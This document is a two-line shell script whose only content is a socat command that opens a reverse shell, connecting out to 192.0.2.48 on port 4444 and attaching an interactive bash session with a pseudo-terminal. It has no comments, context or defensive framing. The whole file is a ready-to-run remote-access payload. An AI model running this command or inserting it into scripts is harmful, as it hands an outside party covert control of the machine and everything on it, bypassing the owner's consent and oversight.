#!/bin/sh
socat tcp-connect:192.0.2.48:4444 exec:/bin/bash,pty,stderr,setsid
